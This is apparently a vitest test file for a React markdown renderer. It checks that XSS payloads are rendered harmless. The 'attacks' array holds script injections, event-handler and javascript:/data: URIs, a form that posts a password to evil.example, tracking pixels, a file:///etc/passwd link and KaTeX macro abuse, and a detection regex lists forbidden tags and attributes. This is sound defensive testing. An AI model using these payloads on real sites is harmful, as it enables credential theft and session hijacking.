/** Hostile text on the server side of React: fast, so that many texts can be tried. The browser's turn is gallery.test.ts. */
import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { extrasFor, Tree } from './markdown-pipeline.tsx'

const html = async (text: string) => renderToStaticMarkup(<Tree text={text} extras={await extrasFor(text)} />)

/** Names and addresses of elements that could run, load, or send something. */
const forbiddenTag =
  /<(script|style|iframe|object|embed|form|input|button|link|meta|base|img|video|audio|source|svg\s+on|textarea|select|template|frame)\b/i
function faultsOf(markup: string): string[] {
  const faults: string[] = []
  if (forbiddenTag.test(markup)) faults.push(`element ${forbiddenTag.exec(markup)![0]}`)
  for (const [, attributes] of markup.matchAll(/<[a-z][\w-]*((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi))
    for (const [, name, value = ''] of attributes!.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)) {
      if (/^on/i.test(name!)) faults.push(`handler ${name}`)
      if (/^(src|srcset|srcdoc|action|formaction|poster|background|data|xlink:href)$/i.test(name!)) faults.push(name!)
      if (name === 'href' && !/^(https?:|mailto:|#)/i.test(value)) faults.push(`link to ${value}`)
      if (name === 'style' && /url\(|expression|position\s*:\s*fixed/i.test(value)) faults.push(`style ${value}`)
    }
  return faults
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>*{display:none}</style><p style="position:fixed">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example">',
  '<!--><script>alert(1)</script>-->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/steal)',
  '[x](/api/sign-out)',
  '[x](https://good.example" onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.png)',
  '![x](/api/sign-out)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://evil.example/p.png "t\\" onload=\\"alert(1)")',
  '![x][r]\n\n[r]: https://evil.example/pixel.png',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/p.png}$',
  '$\\htmlStyle{position:fixed;inset:0}{x}$',
  '$\\htmlData{onclick=alert(1)}{x}$',
  '$\\htmlId{root}{x}$',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\rule{10000em}{10000em}$',
  '```html\n<script>alert(1)</script>\n```',
  '```"onload="alert(1)\nx\n```',
  'x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '<https://evil.example/?a=<script>>',
]

describe('hostile text', () => {
  it('would be noticed', () => {
    expect(faultsOf('<p><a href="javascript:x" onclick="y">z</a><img src="a" alt="b"/></p>')).toHaveLength(4)
  })

  it.each(attacks)('does nothing: %s', async (text) => {
    expect(faultsOf(await html(text))).toEqual([])
  })

  it('does nothing in any mixture', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(fc.constantFrom(...attacks), fc.string({ unit: 'grapheme-ascii' })), { maxLength: 6 }),
        fc.constantFrom('', ' ', '\n', '\n\n', '> ', '**'),
        async (parts, glue) => {
          expect(faultsOf(await html(parts.join(glue)))).toEqual([])
        },
      ),
      { numRuns: 200 },
    )
  })

  it('stays visible: raw HTML is shown as the text that was written', async () => {
    expect(await html('a <b onclick="x()">bold</b> <!-- secret -->')).toContain(
      'a &lt;b onclick=&quot;x()&quot;&gt;bold&lt;/b&gt; &lt;!-- secret --&gt;',
    )
    expect(await html('<script>alert(1)</script>')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('is refused when it nests without end', async () => {
    await expect(html('> '.repeat(2000))).rejects.toThrow('levels deep')
    await expect(html(`${'- '.repeat(2000)}x`)).rejects.toThrow()
  })
})

describe('text from models', () => {
  it('names the host of a link, the true one', async () => {
    const link = await html('[your bank](https://bank.example@evil.example/login)')
    expect(link).toContain('rel="noopener noreferrer nofollow ugc"')
    expect(link).toContain('(evil.example)')
  })
  it('says that a picture was not loaded, from where, and what it was to show', async () => {
    const note = await html('![a chart](https://tracker.example/p.png)')
    expect(note).toContain('Picture not loaded: a chart')
    expect(note).toContain('tracker.example')
  })
  it('shows an address inside our site instead of linking it', async () => {
    expect(await html('[settings](/settings)')).toContain('<span>settings<bdi')
  })
  it('renders tables, task lists, code and formulas', async () => {
    const markup = await html('| a |\n|---|\n| 1 |\n\n- [x] done\n\n```js\nconst x = 1\n```\n\n$x^2$')
    for (const part of ['<table>', 'aria-label="done"', 'hljs-keyword', 'class="katex"']) expect(markup).toContain(part)
  })
  it('keeps footnotes of two texts apart and their links whole', async () => {
    const markup = renderToStaticMarkup(
      <>
        <Tree text={'a[^1]\n\n[^1]: b'} extras={[]} />
        <Tree text={'a[^1]\n\n[^1]: b'} extras={[]} />
      </>,
    )
    const ids = [...markup.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const [, target] of markup.matchAll(/href="#([^"]*)"/g)) expect(ids).toContain(target)
    expect(ids.length).toBeGreaterThan(3)
  })
  it('puts headings below those of the page', async () => {
    expect(await html('# Top')).toBe('<h3>Top</h3>')
  })
})
